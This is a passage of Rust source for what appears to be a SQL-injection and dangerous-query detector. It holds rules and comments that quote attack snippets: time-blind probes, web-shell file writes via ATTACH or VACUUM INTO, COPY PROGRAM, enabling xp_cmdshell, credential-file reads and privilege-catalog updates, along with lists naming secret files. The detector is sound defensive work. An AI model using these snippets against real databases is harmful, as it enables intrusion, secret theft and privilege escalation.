/// as [`attached_file`] reads it) reaches: high to a file a web server runs
/// or a shell reads, medium to a name computed (or a public directory)
/// whose literals point into a web root; `None` for any other file.
fn file_write(file: &str, computed: bool) -> Option<Confidence> {
    if executable_file(file) {
        Some(Confidence::High)
    } else {
        ((computed || public_root(file)) && suspicious_literal(file)).then_some(Confidence::Medium)
    }
}

/// Whether a file lies where a web server hands files out as they are
/// (`/var/www/html/static/cache.db`): a database written there is
/// downloaded by anyone.
fn public_root(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    ["/var/www/html", "htdocs", "public_html", "wwwroot", "/static/", "/public/", "/uploads/"].iter().any(|m| super::has(&name, m))
}

/// Whether the text's first word is `ATTACH`.
fn attach_first(text: &str) -> bool {
    text.trim_start().get(..6).is_some_and(|w| w.eq_ignore_ascii_case("attach"))
}

/// Whether a computed file name's literals point into a web root or
/// spell an extension a web server runs (`replace('/var/www/html/xXphp',
/// 'X','.')`): a dated backup's (`'/backups/app-' || strftime(...)`) do not.
fn suspicious_literal(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    [
        "/var/www",
        "htdocs",
        "wwwroot",
        "public_html",
        "/srv/http",
        "webapps",
        "cgi-bin",
        "php",
        "jsp",
        "asp",
        "phtml",
        "authorized_keys",
        "cron",
    ]
    .iter()
    .any(|m| super::has(&name, m))
}

/// Whether a file name ends in an extension a web server runs (`.php`,
/// `.jsp`, `.aspx`...) or names a file read as commands
/// (`authorized_keys`, a cron directory): a database there is a web shell
/// or a way in, never a database.
fn executable_file(quoted: &str) -> bool {
    let name = quoted.trim_matches(['\'', '"', '`']).trim_end_matches(['.', ' ']).to_ascii_lowercase();
    let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
    let base = name.rsplit(['/', '\\']).next().unwrap_or(&name);
    matches!(
        ext,
        "php" | "php3" | "php4" | "php5" | "php7" | "phtml" | "phar" | "jsp" | "jspx" | "asp" | "aspx" | "ashx" | "cgi" | "shtml" | "cfm"
    ) || [".php.", ".phtml.", ".phar.", ".jsp.", ".asp.", ".aspx."].iter().any(|e| base.contains(e))
        || base.starts_with("authorized_keys")
        || name.contains("/cgi-bin/")
        || name.starts_with("/etc/cron")
        || name.starts_with("/var/spool/cron")
        || name.contains("/profile.d/")
        || matches!(
            base,
            ".bashrc" | ".profile" | ".bash_profile" | ".bash_login" | ".zshrc" | ".zshenv" | ".zprofile" | ".user.ini" | ".htaccess"
        )
}

/// Dangerous calls anywhere in the tokens: sleeps, file and network
/// functions, command procedures, `INTO OUTFILE`, `COPY ... PROGRAM`,
/// `WAITFOR DELAY`. `strict`: the text is not known to be SQL (a value), so
/// words that are also English need SQL around them.
fn dangerous_calls(t: &[Tok], strict: bool, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let mut i = 0;
    while i < t.len() {
        let Some((name, j)) = name_at(t, i) else {
            i += 1;
            continue;
        };
        let call = t.get(j).is_some_and(|x| x.kind == Kind::LParen);
        let arg = t.get(j + 1);
        let at = t[i].at.start..t.get(j + 1).map_or(t[i].at.end, |x| x.at.end);
        if call && named(&name, SLEEP_FUNCS) {
            // `sleep (8 hours)` is prose; `SLEEP(5)`, `pg_sleep(10)`, `BENCHMARK(5000000,MD5(1))` are not.
            let closed = t.get(j + 2).is_some_and(|c| matches!(c.kind, Kind::RParen | Kind::Comma | Kind::Op));
            let plain = name != "SLEEP" && arg.is_some_and(|a| a.kind != Kind::RParen);
            if !strict
                || plain
                || arg.is_some_and(|a| (a.kind == Kind::Num && closed) || a.kind == Kind::LParen || a.is_any(&["IF", "CASE", "SELECT"]))
            {
                found.push((Confidence::High, "sql.time-blind", at));
            }
        } else if call && name == "RANDOMBLOB" {
            if arg.is_some_and(|a| a.kind == Kind::Num && a.text.len() >= 7) {
                found.push((Confidence::High, "sql.time-blind", at));
            }
        } else if (call && named(&name, OOB_FUNCS))
            || (!call
                && named(&name, OOB_PROCS)
                && (name.contains('.')
                    || (i > 0 && t[i - 1].is_any(&["EXEC", "EXECUTE"]))
                    || t.get(j).is_some_and(|x| x.kind == Kind::Str || x.text.starts_with('@'))))
        {
            found.push((Confidence::High, "sql.file-or-network", at));
        } else if call && named(&name, ERROR_FUNCS) && !matches!(name.as_str(), "XMLTYPE" | "JSON_KEYS") {
            found.push((if strict { Confidence::High } else { Confidence::Medium }, "sql.error-based", at));
        } else if name == "WAITFOR"
            && t.get(j).is_some_and(|x| x.is_any(&["DELAY", "TIME"]))
            && t.get(j + 1).is_some_and(|x| x.kind == Kind::Str)
        {
            found.push((Confidence::High, "sql.time-blind", at));
        } else if name == "INTO" && t.get(j).is_some_and(|x| x.is_any(&["OUTFILE", "DUMPFILE"])) {
            found.push((Confidence::High, "sql.file-or-network", at));
        } else if name == "ATTACH"
            && let Some((file, k, computed)) = attached_file(t, j)
            && let Some(c) = file_write(&file, computed)
        {
            // SQLite's `ATTACH DATABASE '/var/www/x.php' AS p` creates that
            // file, and the table written into it next is served as code:
            // SQLite's INTO OUTFILE.
            found.push((c, "sql.file-or-network", t[i].at.start..t[k].at.end));
        } else if name == "VACUUM"
            && let Some(into) = (j..(j + 3).min(t.len())).find(|&k| t[k].is("INTO"))
            && let Some((file, k, computed)) = attached_file(t, into + 1)
            && let Some(c) = file_write(&file, computed)
        {
            // `VACUUM INTO '/var/www/html/x.php'` writes the database,
            // rows an attacker inserted included, to that file. (A file name
            // computed by a function or a subquery hides where: medium.)
            found.push((c, "sql.file-or-network", t[i].at.start..t[k].at.end));
        } else if last_part(&name) == "SP_CONFIGURE"
            && t.get(j).is_some_and(|x| {
                x.kind == Kind::Str
                    && matches!(
                        x.text.to_ascii_lowercase().as_str(),
                        "xp_cmdshell" | "ole automation procedures" | "ad hoc distributed queries" | "external scripts enabled"
                    )
            })
            // `sp_configure 'xp_cmdshell', 0` turns it off (hardening scripts).
            && !(t.get(j + 1).is_some_and(|x| x.kind == Kind::Comma) && t.get(j + 2).is_some_and(|x| x.text == "0"))
        {
            // Turning on command execution or out-of-band access.
            found.push((Confidence::High, "sql.file-or-network", at));
        } else if call
            && matches!(
                last_part(&name),
                "READ_TEXT" | "READ_BLOB" | "FILE" | "READ_CSV" | "READ_CSV_AUTO" | "READ_JSON" | "READ_JSON_AUTO" | "READ_PARQUET"
            )
            && let Some(k) = (j + 1..(j + 24).min(t.len()))
                .take_while(|&k| t[k].kind != Kind::Semi)
                .find(|&k| t[k].kind == Kind::Str && credential_file(&t[k].text))
        {
            // DuckDB's `read_text(['/root/.aws/credentials'])`, ClickHouse's
            // `file('/etc/clickhouse-server/users.d/default-password.xml')`:
            // a credential file read into rows the query returns.
            found.push((Confidence::High, "sql.file-or-network", t[i].at.start..t[k].at.end));
        } else if name == "COPY" || name == "UNLOAD" {
            // COPY ... FROM/TO PROGRAM 'cmd'
            let end = (j + 40).min(t.len());
            if let Some(k) = (j..end).find(|&k| name == "COPY" && t[k].is("PROGRAM") && k > 0 && t[k - 1].is_any(&["FROM", "TO"])) {
                found.push((Confidence::High, "sql.file-or-network", t[i].at.start..t[k].at.end));
            } else if let Some(k) = (j..(j + 4096).min(t.len())).take_while(|&k| t[k].kind != Kind::Semi).find(|&k| {
                // (A comment between the keyword and the destination,
                // `TO/**/'s3://...'`, is no token of the statement.)
                let before = t.get(..k).and_then(|h| h.iter().rev().find(|x| x.kind != Kind::Comment));
                before.is_some_and(|b| b.is_any(&["TO", "INTO"]))
                    && (t[k].kind == Kind::Str && remote_location(&t[k].text) || name == "COPY" && stage(t, k))
            }) {
                // Rows copied out to a bucket or an HTTP endpoint (Snowflake's
                // `COPY INTO 's3://...'` or `COPY INTO @stage`, DuckDB's
                // `COPY (...) TO 'https://...'`, Redshift's `UNLOAD ('...')
                // TO 's3://...'`): an export a human approves.
                // (Nightly jobs build a table, then export it: no higher
                // after another statement.)
                found.push((Confidence::Medium, "sql.file-or-network", t[i].at.start..t[k].at.end));
            }
        } else if name == "EXPORT" && t.get(j).is_some_and(|x| x.is("DATA")) && t.get(j + 1).is_some_and(|x| x.is_any(&["OPTIONS", "WITH"]))
        {
            // BigQuery's `EXPORT DATA [WITH CONNECTION c] OPTIONS(uri=...)
            // AS SELECT` writes only to another service (Cloud Storage, S3
            // through a connection, Bigtable, Pub/Sub): an export however
            // its URI is written (`CONCAT('g', 's://...')`, a triple-quoted
            // literal).
            found.push((Confidence::Medium, "sql.file-or-network", t[i].at.start..t[j].at.end));
        } else if name == "EXPORT"
            && t.get(j).is_some_and(|x| x.is_any(&["DATA", "DATABASE", "TABLE"]))
            && let Some(k) = (j..(j + 64).min(t.len()))
                .take_while(|&k| t[k].kind != Kind::Semi && !t[k].is("AS"))
                .find(|&k| matches!(t[k].kind, Kind::Str | Kind::Ident) && remote_location(&t[k].text))
        {
            // DuckDB's `EXPORT DATABASE 's3://...'`, Hive's `EXPORT TABLE t
            // TO 'hdfs://...'`: the same export.
            found.push((Confidence::Medium, "sql.file-or-network", t[i].at.start..t[k].at.end));
        } else if name == "INSERT"
            && t.get(j).is_some_and(|x| x.is("OVERWRITE"))
            && let Some(k) = (j + 1..(j + 4).min(t.len())).find(|&k| t[k].is("DIRECTORY"))
            && let Some(at) =
                t.get(k + 1).filter(|x| x.kind == Kind::Str && remote_location(&x.text)).map(|_| k + 1).or_else(|| remote_option(t, k + 1))
        {
            // Hive's and Spark's `INSERT OVERWRITE [LOCAL] DIRECTORY
            // 's3://...' SELECT` (or `DIRECTORY USING parquet OPTIONS (path
            // 's3a://...')`): rows written to a bucket.
            found.push((Confidence::Medium, "sql.file-or-network", t[i].at.start..t[at].at.end));
        } else if name == "CREATE"
            && let Some(k) = remote_table(t, j)
        {
            // A table whose rows live elsewhere, filled by the statement
            // (`CREATE TABLE x WITH (external_location = 's3://...') AS
            // SELECT`, `CREATE EXTERNAL TABLE ... LOCATION 's3://...' AS
            // SELECT`), or a ClickHouse table on another server's storage
            // (`ENGINE = URL('https://...')`, `S3(...)`) that later
            // inserts send to.
            found.push((Confidence::Medium, "sql.file-or-network", t[i].at.start..t[k].at.end));
        } else if name == "BACKUP"
            && let Some(k) = (j..(j + 64).min(t.len())).take_while(|&k| t[k].kind != Kind::Semi).find(|&k| {
                t[k].kind == Kind::Str && remote_location(&t[k].text)
                    || k > 0 && t[k].is_any(&["S3", "AZUREBLOBSTORAGE", "URL"]) && t[k - 1].is_any(&["TO"])
            })
        {
            // `BACKUP TABLE t TO S3('https://...')` (ClickHouse), `BACKUP
            // DATABASE d TO URL = 'https://...'` (SQL Server): a copy of
            // every row in another account's storage.
            found.push((Confidence::Medium, "sql.file-or-network", t[i].at.start..t[k].at.end));
        } else if call && last_part(&name) == "QUERY_EXPORT_TO_S3" {
            // Aurora and RDS PostgreSQL's `aws_s3.query_export_to_s3('SELECT
            // ...', ...)`: a query's rows written to a bucket.
            found.push((Confidence::Medium, "sql.file-or-network", at));
        } else if name == "INSERT"
            && t.get(j).is_some_and(|x| x.is("INTO"))
            && let Some(f) = (j + 1..(j + 3).min(t.len())).find(|&k| t[k].is("FUNCTION"))
            && t.get(f + 1).is_some_and(|x| {
                // (Backticks quote the name: `url`.)
                matches!(x.kind, Kind::Word | Kind::Ident)
                    && matches!(
                        x.text.to_ascii_uppercase().as_str(),
                        "URL"
                            | "URLCLUSTER"
                            | "S3"
                            | "S3CLUSTER"
                            | "COSN"
                            | "OSS"
                            | "GCS"
                            | "HDFS"
                            | "HDFSCLUSTER"
                            | "AZUREBLOBSTORAGE"
                            | "AZUREBLOBSTORAGECLUSTER"
                            | "REMOTE"
                            | "REMOTESECURE"
                            | "MYSQL"
                            | "POSTGRESQL"
                            | "MONGODB"
                            | "REDIS"
                            | "ODBC"
                            | "JDBC"
                    )
            })
            // A copy into a table of the same host (`remote('localhost:9000',
            // ...)`, `url('http://127.0.0.1:8123/...')`) leaves nothing.
            && !t.get(f + 3).is_some_and(|a| a.kind == Kind::Str && local_target(&a.text))
        {
            // ClickHouse's `INSERT INTO FUNCTION url('https://...')` (or
            // `s3(...)`, `remote('host:9000', ...)`): rows written to another
            // server.
            found.push((Confidence::Medium, "sql.file-or-network", t[i].at.start..t[f + 1].at.end));
        }
        i = j.max(i + 1);
    }
}

/// Whether a file name read by SQL names credentials or account data.
fn credential_file(p: &str) -> bool {
    let l = p.trim().to_ascii_lowercase();
    let base = l.rsplit('/').next().unwrap_or("");
    [
        ".aws/cred",
        ".ssh/",
        "id_rsa",
        "id_ed25519",
        "id_ecdsa",
        "/etc/shadow",
        "/etc/passwd",
        "/etc/ssl/private",
        ".config/gcloud",
        "application_default_credentials",
        ".kube/config",
        ".docker/config.json",
        ".pgpass",
        ".git-credentials",
        ".netrc",
        ".vault-token",
        "/environ",
        "/run/secrets",
        "/etc/clickhouse-server/users",
    ]
    .iter()
    .any(|w| l.contains(w))
        || base == ".env"
        || base.starts_with(".env.")
}

/// Whether token `k` names a Snowflake stage (`@my_stage/path`, the user
/// stage `@~`, a table stage `@%t`): rows unloaded there are fetched with
/// `GET` or land in the stage's bucket.
fn stage(t: &[Tok], k: usize) -> bool {
    // (Quoted too: `COPY INTO '@stage/x'`.)
    t.get(k).is_some_and(|x| x.text.starts_with('@') || x.kind == Kind::Op && x.text == "@")
}

/// Where a `CREATE` (its tokens from `j`) makes a table stored elsewhere
/// and fills it, or binds it to another server's storage: a remote
/// location given to `LOCATION`, `external_location`, `location` or
/// `path` in a statement that ends `AS SELECT`, or a ClickHouse engine
/// that reads and writes another server (`ENGINE = URL(...)`, `S3(...)`)
/// not on this host.
fn remote_table(t: &[Tok], j: usize) -> Option<usize> {
    let statement = || (j..(j + 4096).min(t.len())).take_while(|&k| t[k].kind != Kind::Semi);
    let engine = statement().find(|&k| {
        t[k].is("ENGINE")
            && t.get(k + 1).is_some_and(|x| x.is_op("="))
            && t.get(k + 2).is_some_and(|x| x.is_any(&["URL", "S3", "S3QUEUE", "AZUREBLOBSTORAGE", "HDFS", "COSN", "OSS", "GCS"]))
            && t.get(k + 3).is_some_and(|x| x.kind == Kind::LParen)
            && t.get(k + 4).is_some_and(|x| x.kind == Kind::Str && !local_target(&x.text))
    });
    if let Some(k) = engine {
        return Some(k + 4);
    }
    // Filled by this statement (`AS SELECT`, `AS WITH`, `AS (`, Trino's
    // `AS TABLE t`), or by an `INSERT` later in the text (`CREATE EXTERNAL
    // TABLE ... LOCATION 's3://...'; INSERT INTO x SELECT ...`).
    let filled = statement()
        .any(|k| t[k].is("AS") && t.get(k + 1).is_some_and(|x| x.is_any(&["SELECT", "WITH", "TABLE", "VALUES"]) || x.kind == Kind::LParen));
    let end = statement().last().map_or(j, |k| k + 1);
    let later = || t.iter().skip(end).take(4096).any(|x| x.is("INSERT"));
    let k = remote_option(t, j)?;
    (filled || later()).then_some(k)
}

/// Where a statement (its tokens from `j`) names a remote location as a
/// table's or a writer's storage: a string after `LOCATION`,
/// `external_location`, `location` or `path`, bare or quoted (Spark's
/// `OPTIONS (path 's3a://...')`, `('path' = '...')`), with or without `=`.
fn remote_option(t: &[Tok], j: usize) -> Option<usize> {
    let key = |x: &Tok| {
        matches!(x.kind, Kind::Word | Kind::Ident | Kind::Str)
            && matches!(x.text.to_ascii_lowercase().as_str(), "location" | "external_location" | "path")
    };
    // The token before `k`, comments aside.
    let before = |k: usize| t.get(..k).and_then(|h| h.iter().rposition(|x| x.kind != Kind::Comment));
    (j..(j + 4096).min(t.len())).take_while(|&k| t[k].kind != Kind::Semi).find(|&k| {
        let b = before(k);
        let named = b.is_some_and(|b| key(&t[b]) || t[b].is_op("=") && before(b).is_some_and(|a| key(&t[a])));
        t[k].kind == Kind::Str && named && remote_location(&t[k].text)
    })
}

/// Where a statement of `text` writes the database's own privilege
/// catalog (`UPDATE pg_authid SET rolsuper = true`, `INSERT INTO
/// mysql.global_grants ...`, `REPLACE INTO mysql.user ...`, through a
/// CTE, after `BEGIN;`): see [`catalog_target`].
fn catalog_write(text: &str) -> Option<Range<usize>> {
    if !super::has_ascii_ci(text, "pg_auth") && !super::has_ascii_ci(text, "mysql") {
        return None;
    }
    let t = lex(text, 0, text.len(), &GenericDialect {});
    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment).collect();
    // (Every statement: `BEGIN; UPDATE pg_authid ...` too.)
    // (Statements are disjoint: every one is read, in linear time.)
    let heads = std::iter::once(0).chain(sig.iter().enumerate().filter(|(_, x)| x.kind == Kind::Semi).map(|(k, _)| k + 1));
    heads
        .into_iter()
        .find(|&k| catalog_target(&sig, k))
        .map(|k| sig.get(k).map_or(0, |x| x.at.start)..sig.get(k + 3).map_or(text.len(), |x| x.at.end))
}

/// Whether every assignment of a `SET` list restricts an account: a
/// privilege flag (`*_priv`, `rolsuper`, `rolcanlogin`...) set to a literal
/// that turns it off (`'N'`, `false`, `0`), alone (`a = 'N'`) or in a row
/// (`(a, b) = (false, false)`); a lock or an expiry switched on
/// (`account_locked = 'Y'`, `password_expired = 'Y'`); a validity or a
/// connection limit that is one (`rolvaliduntil = '2024-01-01'`,
/// `rolconnlimit = 0`, `max_user_connections = 5`; not `'infinity'`, `-1`
/// or MySQL's unlimited `0`). A computed value (`NOT rolsuper`,
/// `CHAR(89)`, a column `f`, `0x59`) or an unlock is not.
fn restricts_only(set: &[&Tok]) -> bool {
    fn literal(y: &Tok, words: &[&str]) -> bool {
        let v = y.text.to_ascii_lowercase();
        match y.kind {
            Kind::Str => words.contains(&v.as_str()),
            Kind::Num => v == "0" && words.contains(&"0") || v == "1" && words.contains(&"1"),
            Kind::Word => matches!(v.as_str(), "false" | "true") && words.contains(&v.as_str()),
            _ => false,
        }
    }
    let restricts = |column: &Tok, value: Option<&Tok>| {
        let c = column.text.to_ascii_lowercase();
        let flag = c.ends_with("_priv")
            || matches!(
                c.as_str(),
                "rolsuper" | "rolcreaterole" | "rolcreatedb" | "rolreplication" | "rolbypassrls" | "rolinherit" | "rolcanlogin"
            );
        value.is_some_and(|v| {
            flag && literal(v, &["n", "no", "f", "false", "0"])
                || matches!(c.as_str(), "account_locked" | "password_expired") && literal(v, &["y", "yes", "t", "true", "1"])
                // A limit that is one: a date (not `'infinity'`), a
                // connection limit (not `-1`, two tokens), a MySQL
                // resource or lifetime limit other than 0 (unlimited).
                || c == "rolvaliduntil"
                    && (v.kind == Kind::Str && v.text.starts_with(|ch: char| ch.is_ascii_digit())
                        || v.is_any(&["NOW", "CURRENT_TIMESTAMP", "CURRENT_DATE", "LOCALTIMESTAMP", "STATEMENT_TIMESTAMP", "TRANSACTION_TIMESTAMP", "CLOCK_TIMESTAMP"]))
                || c == "rolconnlimit" && v.kind == Kind::Num
                || matches!(
                    c.as_str(),
                    "max_connections" | "max_user_connections" | "max_questions" | "max_updates" | "password_lifetime"
                ) && v.kind == Kind::Num
                    && v.text.bytes().any(|b| (b'1'..=b'9').contains(&b))
        })
    };
    // The assignments: split at the commas outside parentheses.
    let mut parts: Vec<&[&Tok]> = Vec::new();
    let (mut depth, mut from) = (0i32, 0usize);
    for (k, y) in set.iter().enumerate() {
        match y.kind {
            Kind::LParen => depth += 1,
            Kind::RParen => depth -= 1,
            Kind::Comma if depth == 0 => {
                parts.extend(set.get(from..k));
                from = k + 1;
            }
            _ => {}
        }
    }
    parts.extend(set.get(from..));
    let mut seen = 0;
    for part in parts {
        let Some(eq) = part.iter().position(|y| y.is_op("=")) else { return false };
        let (left, right) = (part.get(..eq).unwrap_or(&[]), part.get(eq + 1..).unwrap_or(&[]));
        if left.first().is_some_and(|y| y.kind == Kind::LParen) {
            // `(a, b) = (v1, v2)`: each column with its value.
            let columns: Vec<&Tok> = left.iter().filter(|y| matches!(y.kind, Kind::Word | Kind::Ident)).copied().collect();
            let values: Vec<&Tok> =
                right.iter().filter(|y| !matches!(y.kind, Kind::LParen | Kind::RParen | Kind::Comma)).copied().collect();
            if columns.len() != values.len() || !columns.iter().zip(&values).all(|(c, v)| restricts(c, Some(v))) {
                return false;
            }
        } else {
            // (`u.Super_priv`: the column is the name's last part.)
            let Some(column) = left.iter().rev().find(|y| matches!(y.kind, Kind::Word | Kind::Ident)).copied() else { return false };
            // (A literal, or a call without arguments: `now()`.)
            let value = match right {
                [v] => Some(*v),
                [v, open, close] if open.kind == Kind::LParen && close.kind == Kind::RParen && v.kind == Kind::Word => Some(*v),
                _ => None,
            };
            if !restricts(column, value) {
                return false;
            }
        }
        seen += 1;
    }
    seen > 0
}

/// PostgreSQL's role catalogs (any schema: `pg_catalog.pg_authid`).
const PG_ROLE_CATALOG: &[&str] = &["pg_authid", "pg_auth_members"];
/// MySQL's grant tables (in the `mysql` schema).
const MYSQL_GRANT_TABLES: &[&str] = &[
    "user",
    "global_priv",
    "db",
    "global_grants",
    "tables_priv",
    "columns_priv",
    "procs_priv",
    "proxies_priv",
    "role_edges",
    "default_roles",
];

/// Whether the statement at `sig[i]` inserts into or updates the
/// database's own privilege catalog (`pg_authid`, `pg_auth_members`,
/// `mysql.user`, `mysql.db`, `mysql.global_grants`...), whatever columns
/// it names and however it spells their values (`Super_priv = 0x59`,
/// `rolsuper = NOT rolsuper`, `SET (rolsuper, rolbypassrls) = ...`, `ON
/// DUPLICATE KEY UPDATE`): an administrator grants with `GRANT` and `ALTER
/// ROLE`; a write into the tables they maintain only goes around them. A
/// `WITH` reads its first data-modifying statement. (A `DELETE` removes
/// accounts, as `mysql_secure_installation` does: not an elevation.)
fn catalog_target(sig: &[&Tok], i: usize) -> bool {
    let Some(head) = sig.get(i) else { return false };
    let statement = || sig.iter().enumerate().skip(i + 1).take_while(|(_, y)| y.kind != Kind::Semi);
    if head.is("WITH") {
        return statement().find(|(_, y)| y.is_any(&["UPDATE", "INSERT", "REPLACE"])).is_some_and(|(k, _)| catalog_target(sig, k));
    }
    if !head.is_any(&["UPDATE", "INSERT", "REPLACE"]) {
        return false;
    }
    // A revocation (`SET Super_priv = 'N', File_priv = 'N'`, `SET
    // (rolsuper, rolbypassrls) = (false, false)`) elevates nothing.
    if head.is("UPDATE") {
        let set: Vec<&Tok> = statement()
            .map(|(_, y)| *y)
            .skip_while(|y| !y.is("SET"))
            .skip(1)
            .take_while(|y| !y.is_any(&["WHERE", "FROM", "RETURNING"]))
            .collect();
        if restricts_only(&set) {
            return false;
        }
    }
    // The target's name: its parts, after the modifiers (`INSERT IGNORE
    // INTO`, `UPDATE ONLY`, `LOW_PRIORITY`).
    let modifier = ["INTO", "IGNORE", "ONLY", "LOW_PRIORITY", "DELAYED", "HIGH_PRIORITY"];
    // (`mysql.user`: the parts are joined by periods; anything else after
    // a part, an alias, `SET` or `(`, ends the name.)
    let mut parts: Vec<String> = Vec::new();
    let mut want_part = true;
    for (_, y) in statement().skip_while(|(_, y)| y.is_any(&modifier)).take(5) {
        match y.kind {
            Kind::Word | Kind::Ident if want_part => {
                parts.push(y.text.to_ascii_lowercase());
                want_part = false;
            }
            Kind::Period if !want_part => want_part = true,
            _ => break,
        }
    }
    let Some(last) = parts.last() else { return false };
    // (`USE mysql;` before it: the grant tables need no schema.)
    let schema = if parts.len() >= 2 {
        parts.get(parts.len() - 2).map(String::as_str)
    } else {
        sig.get(..i)
            .and_then(|h| h.windows(2).rev().find(|w| w[0].is("USE")))
            .and_then(|w| matches!(w[1].kind, Kind::Word | Kind::Ident).then(|| w[1].text.to_ascii_lowercase()))
            .filter(|db| db == "mysql")
            .map(|_| "mysql")
    };
    PG_ROLE_CATALOG.contains(&last.as_str()) || schema == Some("mysql") && MYSQL_GRANT_TABLES.contains(&last.as_str())
}

/// Whether a table function's first argument names this host
/// (`localhost:9000`, `http://127.0.0.1:8123/`, `[::1]:9000`).
fn local_target(a: &str) -> bool {
    let l = a.trim().to_ascii_lowercase();
    let host = l.split_once("://").map_or(l.as_str(), |(_, r)| r);
    ["localhost", "127.0.0.1", "[::1]"].iter().any(|h| host.strip_prefix(h).is_some_and(|r| r.is_empty() || r.starts_with([':', '/'])))
}

/// Whether a COPY destination is outside the database's host: a bucket
/// or an HTTP, FTP or SFTP endpoint.
fn remote_location(p: &str) -> bool {
    let l = p.trim().to_ascii_lowercase();
    [
        "s3://",
        "s3a://",
        "gs://",
        "gcs://",
        "azure://",
        "az://",
        "abfs://",
        "abfss://",
        "wasb://",
        "wasbs://",
        "adl://",
        "http://",
        "https://",
        "ftp://",
        "ftps://",
        "sftp://",
        "r2://",
        "hf://",
        "hdfs://",
        "webhdfs://",
        "oss://",
        "cos://",
        "cosn://",
        "obs://",
        "b2://",
        "s3n://",
        "lakefs://",
        "oci://",
        "jfs://",
        "alluxio://",
        "viewfs://",
        "ofs://",
        "o3fs://",
        "swift://",
        "minio://",
        "gridfs://",
    ]
    .iter()
    .any(|s| l.starts_with(s))
}

/// The end (exclusive token index) of a tautology or boolean probe starting
/// right after `OR`/`AND` at `i`, if the expression is one: literal compared
/// with literal, an identifier compared with itself, a bare true literal.
/// Returns (index after, is a tautology).
fn condition(t: &[Tok], mut i: usize, strict: bool) -> Option<(usize, bool)> {
    while t.get(i).is_some_and(|x| x.kind == Kind::LParen) {
        i += 1;
    }
    let not = t.get(i).is_some_and(|x| x.is("NOT"));
    if not {
        i += 1;
    }
    let a = t.get(i)?;
    let op = t.get(i + 1);
    let b = t.get(i + 2);
    let is_cmp = |x: Option<&Tok>| {
        x.is_some_and(|o| (o.kind == Kind::Op && CMP.contains(&o.text.as_str())) || o.is_any(&["LIKE", "IS", "RLIKE", "REGEXP", "GLOB"]))
    };
    let value = |x: &Tok| if x.kind == Kind::Word { x.text.clone() } else { x.text.to_ascii_lowercase() };
    if is_cmp(op) {
        let b = b?;
        let opt = op.map_or("", |o| o.text.as_str());
        let b_not = b.is("NOT");
        let b = if b_not { t.get(i + 3)? } else { b };
        let end = if b_not { i + 4 } else { i + 3 };
        let same = value(a) == value(b) && a.kind != Kind::Op;
        if a.literal() && b.literal() {
            let equal_op = matches!(opt, "=" | "==" | "LIKE" | "<=>" | "IS" | "GLOB" | "RLIKE" | "REGEXP");
            let truth = match (a.text.parse::<f64>(), b.text.parse::<f64>()) {
                (Ok(x), Ok(y)) if !equal_op => match opt {
                    "<" => x < y,
                    ">" => x > y,
                    "<=" => x <= y,
                    ">=" => x >= y,
                    _ => x != y,
                },
                _ if equal_op => same,
                _ => !same,
            };
            return Some((end, truth != (not || b_not)));
        }
        if a.kind == Kind::Word && b.kind == Kind::Word && same && !a.literal() {
            return Some((end, true));
        }
        return None;
    }
    // `OR 1`, `OR TRUE`, `OR NOT FALSE`: a literal that ends the condition.
    let ends = |x: Option<&Tok>| {
        x.is_none_or(|n| {
            matches!(n.kind, Kind::Comment | Kind::Semi | Kind::RParen)
                || n.is_any(&["LIMIT", "ORDER", "GROUP", "UNION", "OR", "AND", "HAVING"])
        })
    };
    if (a.kind == Kind::Num && a.text.parse::<f64>().is_ok_and(|v| v != 0.0)) || a.is("TRUE") || (not && (a.is("FALSE") || a.text == "0")) {
        let sure = a.is("TRUE") || a.text == "1" || op.is_some_and(|o| o.kind == Kind::Comment);
        if ends(op) && (sure || !strict) {
            return Some((i + 1, true));
        }
    }
    None
}

/// The expression after `OR`/`AND` in a break-out: a function call, a
/// subquery, `EXISTS`, `CASE`, a literal comparison.
fn sqlish_after(t: &[Tok], i: usize) -> bool {
    let mut k = i;
    while t.get(k).is_some_and(|x| x.kind == Kind::LParen || x.is("NOT")) {
        k += 1;
    }
    let Some(x) = t.get(k) else { return false };
    if x.is_any(&["SELECT", "EXISTS", "CASE", "SLEEP", "BENCHMARK", "PG_SLEEP"]) {
        return true;
    }
    if let Some((name, j)) = name_at(t, k) {
        if t.get(j).is_some_and(|y| y.kind == Kind::LParen) && named(&name, PROBE_FUNCS) {
            return true;
        }
        if name.starts_with('@') {
            return true;
        }
    }
    if condition(t, i, true).is_some() {
        return true;
    }
    // `X = Y` where either side is a call or a subquery: `1=(SELECT ...)`, `'a'=CHR(97)`, `user=0x61`.
    let cmp_at = (k..(k + 3).min(t.len()))
        .find(|&m| (t[m].kind == Kind::Op && CMP.contains(&t[m].text.as_str())) || t[m].is_any(&["LIKE", "RLIKE", "REGEXP", "ILIKE"]));
    if let Some(m) = cmp_at {
        let left_ok = t[k].literal() || t[k].kind == Kind::Word || t[k].kind == Kind::Ident;
        let mut r = m + 1;
        while t.get(r).is_some_and(|x| x.kind == Kind::LParen) {
            r += 1;
        }
        let right_ok = t.get(r).is_some_and(|x| {
            x.literal() || x.is("SELECT") || (x.kind == Kind::Word && t.get(r + 1).is_some_and(|y| y.kind == Kind::LParen))
        });
        return left_ok && right_ok;
    }
    false
}

/// Value mode: the text is tokenized as a number context and as the inside
/// of a single- and a double-quoted literal.
fn value_rules(text: &str, len: usize, context: Context, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
    let mysql = MySqlDialect {};
    // A query string writes spaces as `+`.
    let spaced;
    let text = if (context == Context::Url || text.contains('=')) && text.contains('+') && !text.contains(' ') {
        spaced = text.replace('+', " ");
        spaced.as_str()
    } else {
        text
    };
    // Cheap gates before each tokenization: most values with a quote are
    // prose ("it's", "O'Brien") with nothing SQL after the quote.
    let has = |re: &LazyLock<Option<BytesRegex>>, t: &str| re.as_ref().is_some_and(|r| r.is_match(t.as_bytes()));
    let is_prose = prose(text);
    // Calls are not judged in prose: no need to look for their names there.
    let danger = !is_prose && has(&DANGER, text);
    // Prose that mentions `UNION SELECT` or `SLEEP(5)` (a ticket, a
    // write-up) is judged only on a quote break-out.
    if !is_prose && (danger || has(&BARE_HEAD, text)) {
        let bare = lex(text, 0, len, &mysql);
        dangerous_calls(&bare, true, found);
        anywhere(text, &bare, context, found);
        bare_rules(&bare, found);
    }
    // MySQL reads `\'` as an escaped quote; an application that escapes
    // quotes by doubling them does not: both readings.
    let generic = GenericDialect {};
